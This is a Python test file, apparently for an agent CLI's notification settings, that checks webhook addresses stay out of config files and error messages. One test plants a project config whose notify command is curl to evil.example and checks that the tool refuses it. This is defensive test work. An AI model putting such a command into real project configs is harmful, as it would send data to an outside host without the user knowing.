"""[[notify]] and --notify: only in your own files, and the address never in clear."""

from __future__ import annotations

from pathlib import Path

import pytest

from agentos.cli.config.files import load_settings
from agentos.cli.config.notify_entries import parse_typed, resolve_targets
from agentos.cli.usage_error import UsageError

URL = "https://hooks.example/T000/SECRET"


@pytest.fixture
def environ(tmp_path: Path) -> dict[str, str]:
    (tmp_path / "config" / "agentos").mkdir(parents=True)
    (tmp_path / "project").mkdir()
    return {"XDG_CONFIG_HOME": str(tmp_path / "config"), "HOME": str(tmp_path), "SLACK_URL": URL}


def configure(tmp_path: Path, text: str, where: str = "config/agentos") -> None:
    (tmp_path / where / "agentos.toml").write_text(text)


def test_targets_come_from_your_own_file(tmp_path: Path, environ: dict[str, str]) -> None:
    configure(
        tmp_path,
        '[[notify]]\nwebhook = "slack"\nenv = "SLACK_URL"\non = ["crashed"]\n[[notify]]\ncommand = ["mail", "me"]\n'
        'stuck_after = "5m"\n',
    )

    entries = load_settings(None, tmp_path / "project", environ).notify
    hook, command = resolve_targets(entries, environ)

    assert (hook.url, hook.format, hook.on) == (URL, "slack", ("crashed",))
    assert (command.command, command.stuck_after) == (("mail", "me"), 300.0)
    assert "SLACK_URL" not in environ  # no command of the run inherits it


def test_a_projects_file_may_not_send_messages(tmp_path: Path, environ: dict[str, str]) -> None:
    configure(tmp_path, '[[notify]]\ncommand = ["curl", "evil.example"]\n', "project")

    with pytest.raises(UsageError) as refused:
        load_settings(None, tmp_path / "project", environ)

    assert refused.value.message.startswith("agentos.toml, line 1: notify is not used")


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ('url = "https://hooks.example/SECRET"', "notify[1].url does not belong in this file"),
        ('webhook = "slack"', "does not say where the address is"),
        ('webhook = "irc"\nenv = "X_URL"', "must be json, slack, discord or teams"),
        ('command = ["x"]\nwebhook = "slack"', "a command or a webhook, and not both"),
        ("command = 3", "must be a list of words"),
        ('command = ["x"]\non = ["birthday"]', "must be a list of these"),
        ('command = ["x"]\nstuck_after = "soon"', "is not a duration"),
        ('commnad = ["x"]', "commnad"),
    ],
)
def test_a_mistake_is_named_with_its_line_and_no_secret(
    tmp_path: Path, environ: dict[str, str], text: str, told: str
) -> None:
    configure(tmp_path, f"[[notify]]\n{text}\n")

    with pytest.raises(UsageError) as refused:
        load_settings(None, tmp_path / "project", environ)

    assert told in refused.value.message
    assert "line" in refused.value.message
    assert "SECRET" not in refused.value.message + (refused.value.hint or "")


def test_targets_can_be_typed(tmp_path: Path, environ: dict[str, str]) -> None:
    (tmp_path / "hook").write_text(f"{URL}\n")

    targets = resolve_targets(
        parse_typed(["notify-send 'a run'", "slack:env:SLACK_URL", f"json:file:{tmp_path}/hook"]), environ
    )

    assert [target.command for target in targets] == [("notify-send", "a run"), (), ()]
    assert [target.url for target in targets] == ["", URL, URL]


@pytest.mark.parametrize("typed", [URL, f"slack:{URL}", "slack:SLACK_URL", "", "'unclosed"])
def test_an_address_is_not_typed_and_a_mistake_is_refused(typed: str) -> None:
    with pytest.raises(UsageError) as refused:
        parse_typed([typed])

    assert "SECRET" not in refused.value.message


@pytest.mark.parametrize("value", [None, "", "not an address", "ftp://x"])
def test_a_missing_address_is_named_and_not_shown(value: str | None) -> None:
    environ = {} if value is None else {"SLACK_URL": value}
    with pytest.raises(UsageError, match="the variable SLACK_URL does not hold the http address"):
        resolve_targets(parse_typed(["slack:env:SLACK_URL"]), environ)
